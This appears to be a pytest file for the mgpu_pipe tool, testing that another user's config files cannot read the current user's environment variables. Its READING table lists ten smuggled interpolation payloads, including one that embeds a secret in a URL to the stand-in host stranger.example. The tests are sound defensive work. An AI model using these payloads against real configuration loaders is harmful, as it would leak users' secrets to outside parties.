"""A configuration file of another user reads nothing of this user's environment. Oracle: the variable's value."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

from mgpu_pipe.cli import main as cli
from mgpu_pipe.config import freeze
from mgpu_pipe.config import freeze as environment_use
from mgpu_pipe.config.hydra.compose import compose
from mgpu_pipe.errors import BadInputError

SECRET = "canary-of-the-environment"
READING = {
    "address": "logger: {mlflow: {tracking_uri: 'http://stranger.example/${oc.env:SECRET_NAME}'}}",
    "anywhere": "model: {path: 'stranger/${oc.env:SECRET_NAME}'}",
    "decoded": "model: {path: \"${oc.decode:'$\\\\{oc.env:SECRET_NAME}'}\"}",
    "built": "name: oc\nmodel: {path: '${${name}.env:SECRET_NAME}'}",
    "escaped": 'model: {path: "\\x24{oc.env:SECRET_NAME}"}',
    "made": "model: {path: \"${oc.create:{x: '${oc.env:SECRET_NAME}'}}\"}",
    "spaced": "model: {path: '${ oc.env : SECRET_NAME}'}",
    "listed": "data: {paths: ['a', '${oc.env:SECRET_NAME}']}",
    "named": "model: {config: {'${oc.env:SECRET_NAME}': 1}}",
    "defaults": "defaults: [{override /model: '${oc.env:SECRET_NAME}'}]",
}


@pytest.fixture
def theirs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder of configurations whose files are another user's."""
    folder = tmp_path / "theirs"
    (folder / "experiment").mkdir(parents=True)
    (tmp_path / "mine").mkdir()
    monkeypatch.chdir(tmp_path / "mine")
    monkeypatch.setenv("SECRET_NAME", SECRET)
    usual = os.stat

    def stat(path: Any, *more: Any, **options: Any) -> os.stat_result:
        found = usual(path, *more, **options)
        foreign = isinstance(path, os.PathLike) and folder in Path(path).parents
        return os.stat_result([*found[:4], 4321, *found[5:10]]) if foreign else found

    monkeypatch.setattr(environment_use.os, "stat", stat)
    return folder


@pytest.mark.parametrize("trick", READING)
def test_it_is_refused_in_one_line(trick: str, theirs: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (theirs / "experiment" / "x.yaml").write_text(f"# @package _global_\n{READING[trick]}\n")
    assert cli.main(["check", "--config-dir", str(theirs), "experiment=x"]) == 2
    (line,) = capsys.readouterr().err.splitlines()
    assert "another user's file cannot read your environment; give " in line and SECRET not in line


def test_what_reads_no_environment_is_followed(theirs: Path) -> None:
    text = "# @package _global_\nname: a\ntrainer: {devices: '${mgpu.devices:2}'}\nseed: '${trainer.devices}'\n"
    (theirs / "experiment" / "x.yaml").write_text(text)
    assert cli.main(["--cfg", "job", "--config-dir", str(theirs), "experiment=x"]) in (0, 2)


def test_a_typed_value_and_ones_own_file_are_followed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET_NAME", SECRET)
    (tmp_path / "conf" / "experiment").mkdir(parents=True)
    (tmp_path / "conf" / "experiment" / "x.yaml").write_text(
        "# @package _global_\nrun: {name: '${oc.env:SECRET_NAME}'}\n"
    )
    monkeypatch.chdir(tmp_path)
    assert compose(["experiment=x"])[0].run.name == compose(["run.name=${oc.env:SECRET_NAME}"])[0].run.name == SECRET


def test_a_frozen_configuration_of_another_user_is_not_resolved(theirs: Path) -> None:
    file = theirs / "config.yaml"
    file.write_text("run: {name: '${oc.env:SECRET_NAME}'}\n")
    with pytest.raises(BadInputError, match="another user's file"):
        freeze.load(file)
    assert freeze.load_untrusted(file)[0].run.name == "${oc.env:SECRET_NAME}"
    file.write_text("run: {name: 'mine'}\n")
    assert freeze.load(file).run.name == "mine"
